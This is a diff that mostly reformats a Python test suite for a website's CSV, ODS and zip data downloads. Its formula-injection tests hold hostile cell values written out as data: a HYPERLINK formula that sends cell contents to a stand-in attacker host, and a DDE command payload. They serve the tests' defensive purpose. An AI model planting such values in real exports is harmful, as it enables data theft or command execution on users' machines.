@@ -1,6 +1,7 @@
 """Downloads read back as the records they were made from, in any spreadsheet: CSV for machines,
 ODS for people (a cover, notes, one table a sheet), the whole site's in one zip; never a live
 formula; the same bytes for the same content; every file opens in LibreOffice."""
+
 from __future__ import annotations
 
 import csv
@@ -27,8 +28,10 @@ AS_AT = datetime.date(2030, 1, 1)  # progress as at this date in the downloads
 
 
 def test_csv_keeps_every_field_and_leaves_missing_values_empty():
-    records = [{"id": "a", "title": 'Say "hello", then\nwave', "percent": 50},
-               {"id": "b", "title": "Plain", "percent": None, "due": "2025-03"}]
+    records = [
+        {"id": "a", "title": 'Say "hello", then\nwave', "percent": 50},
+        {"id": "b", "title": "Plain", "percent": None, "due": "2025-03"},
+    ]
     text = to_csv(records)
     assert text.splitlines()[0] == "id,title,percent,due"  # fields in the order they first appear
     assert list(csv.DictReader(io.StringIO(text, newline=""))) == [
@@ -40,8 +43,7 @@ def test_csv_keeps_every_field_and_leaves_missing_values_empty():
 def test_no_cell_runs_as_a_formula_in_a_spreadsheet():
     """Text a spreadsheet would run (=, +, -, @, or a tab or carriage return first) is shown as
     text; numbers, negative ones included, stay numbers."""
-    hostile = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)",
-               "\t=1+1", "\r=1+1"]
+    hostile = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
     records = [{"title": text, "value": -3.5, "count": 0} for text in hostile]
     read = list(csv.DictReader(io.StringIO(to_csv(records), newline="")))
     # (a carriage return, which some readers take for a new row, is kept as a line break)
@@ -52,10 +54,18 @@ def test_no_cell_runs_as_a_formula_in_a_spreadsheet():
 def test_chart_data_cells_cannot_run_as_formulas():
     from strategies.pages.charts import Chart
 
-    chart = Chart(slug="status", title="=cmd|' /C calc'!A0", summary="", headers=["Item", "@count"],
-                  rows=[["=1+1", 2], ["Plain", -1]])
+    chart = Chart(
+        slug="status",
+        title="=cmd|' /C calc'!A0",
+        summary="",
+        headers=["Item", "@count"],
+        rows=[["=1+1", 2], ["Plain", -1]],
+    )
     assert list(csv.reader(io.StringIO(chart.csv(), newline=""))) == [
-        ["Item", "'@count"], ["'=1+1", "2"], ["Plain", "-1"]]
+        ["Item", "'@count"],
+        ["'=1+1", "2"],
+        ["Plain", "-1"],
+    ]
 
 
 # --- spreadsheets and the whole site's data ---------------------------------------------------
@@ -73,8 +83,9 @@ def _complete(tmp_path):
 
 def _sheets(data: bytes) -> dict:
     """A spreadsheet's sheets as pandas reads them: lists of rows of text and numbers."""
-    book = pd.read_excel(io.BytesIO(data), sheet_name=None, engine="odf", header=None, dtype=object,
-                         keep_default_na=False)
+    book = pd.read_excel(
+        io.BytesIO(data), sheet_name=None, engine="odf", header=None, dtype=object, keep_default_na=False
+    )
     return {name: frame.to_numpy().tolist() for name, frame in book.items()}
 
 
@@ -97,19 +108,29 @@ def test_a_strategys_spreadsheet_has_a_cover_notes_and_one_table_a_sheet_matchin
     cover = [row[0] for row in sheets["Cover"]]
     assert cover[0] == "Fair City Health Inequalities Plan: items and measures"
     assert {"About this data", "Source", "Date", "Sheets in this file"} <= set(cover)
-    assert ("Statuses as reported, the latest in a progress report dated 15 October 2028; each gives the date it "
-            "was reported.") in cover
-    assert ("The Progress as at column says what is known as at 1 January 2030, the date this file was made: a "
-            "status no longer current reads stale.") in cover
+    assert (
+        "Statuses as reported, the latest in a progress report dated 15 October 2028; each gives the date it "
+        "was reported."
+    ) in cover
+    assert (
+        "The Progress as at column says what is known as at 1 January 2030, the date this file was made: a "
+        "status no longer current reads stale."
+    ) in cover
     # the tables: plain-word headers, then the same rows as the CSV files, numbers as numbers
-    for sheet, name, known in (("Items", "items.csv", downloads.ITEM_COLUMNS),
-                               ("Measures", "measures.csv", downloads.MEASURE_COLUMNS)):
+    for sheet, name, known in (
+        ("Items", "items.csv", downloads.ITEM_COLUMNS),
+        ("Measures", "measures.csv", downloads.MEASURE_COLUMNS),
+    ):
         header, *rows = sheets[sheet]
         read = _csv_rows(files[name])
         assert header == [known[column][0] for column in read[0]]
         assert [[float(cell) if isinstance(cell, (int, float)) else cell for cell in row] for row in rows] == [
-            [float(value) if value and column in ("value", "baseline", "target", "percent_complete") else value
-             for column, value in record.items()] for record in read]
+            [
+                float(value) if value and column in ("value", "baseline", "target", "percent_complete") else value
+                for column, value in record.items()
+            ]
+            for record in read
+        ]
     values = [row[-1] for row in sheets["Measures"][1:]]
     assert values == [60.5, 61.5, 55.25, 71.5, 73.25] and all(isinstance(v, float) for v in values)
     assert "Wrong sheet note" not in str(files)  # the workbook's other sheet is not read
@@ -140,8 +161,12 @@ def test_no_spreadsheet_cell_runs_as_a_formula_and_numbers_stay_numbers():
 def test_the_whole_sites_data_is_one_zip_matching_each_strategys_downloads(complete):
     _, site = complete
     files = downloads.site_downloads(site, AS_AT)
-    assert set(files) == {"data/all-strategies-data.zip", "data/all-strategies.ods", "data/all-strategies-items.csv",
-                          "data/all-strategies-measures.csv"}
+    assert set(files) == {
+        "data/all-strategies-data.zip",
+        "data/all-strategies.ods",
+        "data/all-strategies-items.csv",
+        "data/all-strategies-measures.csv",
+    }
     with zipfile.ZipFile(io.BytesIO(files["data/all-strategies-data.zip"])) as archive:
         members = {name: archive.read(name) for name in archive.namelist()}
         assert all(info.date_time == (1980, 1, 1, 0, 0, 0) for info in archive.infolist())
@@ -159,8 +184,11 @@ def test_the_whole_sites_data_is_one_zip_matching_each_strategys_downloads(compl
         assert f"{name} ({label}): {note}" in readme
     # the site's tables are every strategy's, one after another
     items = _csv_rows(files["data/all-strategies-items.csv"])
-    assert [row["id"] for row in items] == [row["id"] for entry in site.strategies.values()
-                                            for row in _csv_rows(downloads.downloads(site, entry, AS_AT)["items.csv"])]
+    assert [row["id"] for row in items] == [
+        row["id"]
+        for entry in site.strategies.values()
+        for row in _csv_rows(downloads.downloads(site, entry, AS_AT)["items.csv"])
+    ]
     assert list(_sheets(files["data/all-strategies.ods"])) == ["Cover", "Notes", "Items", "Measures"]
 
 
@@ -172,8 +200,11 @@ def test_downloads_are_byte_identical_for_the_same_content(tmp_path, complete):
     # made from the files the strategies' pages publish (as a build does), the same bytes again
     from strategies.pages.urls import strategy_folder
 
-    published = {strategy_folder(entry.id) + "data/" + name: content for entry in site.strategies.values()
-                 for name, content in downloads.downloads(site, entry, AS_AT).items()}
+    published = {
+        strategy_folder(entry.id) + "data/" + name: content
+        for entry in site.strategies.values()
+        for name, content in downloads.downloads(site, entry, AS_AT).items()
+    }
     assert downloads.site_downloads(site, AS_AT, published) == downloads.site_downloads(site, AS_AT)
     for entry_id, entry in site.strategies.items():
         assert downloads.downloads(site, entry, AS_AT) == downloads.downloads(again, again.strategies[entry_id], AS_AT)
@@ -195,8 +226,13 @@ def test_the_data_downloads_are_linked_from_the_home_page_and_the_strategies_pag
     soup = BeautifulSoup((site_dir / "strategies/fair-city/index.html").read_text(encoding="utf-8"), "html.parser")
     offered = [a["href"] for a in soup.find_all("a", download=True)]
     assert "data/fair-city.ods" in offered and "data/items.csv" in offered
-    for path in ("data/all-strategies-data.zip", "data/all-strategies.ods", "data/all-strategies-items.csv",
-                 "data/all-strategies-measures.csv", "strategies/fair-city/data/fair-city.ods"):
+    for path in (
+        "data/all-strategies-data.zip",
+        "data/all-strategies.ods",
+        "data/all-strategies-items.csv",
+        "data/all-strategies-measures.csv",
+        "strategies/fair-city/data/fair-city.ods",
+    ):
         assert (site_dir / path).is_file(), path
         assert re.fullmatch(r"[a-z0-9/.-]+", path)  # lower case, dashes: plain file names
 
@@ -231,9 +267,21 @@ def test_every_download_opens_in_libreoffice_with_the_sites_numbers(tmp_path, bu
     for number, source in enumerate(sources):
         target = out / str(number)
         result = subprocess.run(
-            [SOFFICE, "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path / 'profile'}",
-             "--convert-to", "xlsx", "--outdir", str(target), str(source)],
-            capture_output=True, text=True, timeout=180)
+            [
+                SOFFICE,
+                "--headless",
+                "--norestore",
+                f"-env:UserInstallation=file://{tmp_path / 'profile'}",
+                "--convert-to",
+                "xlsx",
+                "--outdir",
+                str(target),
+                str(source),
+            ],
+            capture_output=True,
+            text=True,
+            timeout=180,
+        )
         converted = target / (source.stem + ".xlsx")
         assert result.returncode == 0 and converted.is_file(), (source, result.stdout, result.stderr)
         book = pd.read_excel(converted, sheet_name=None, header=None, dtype=object, keep_default_na=False)
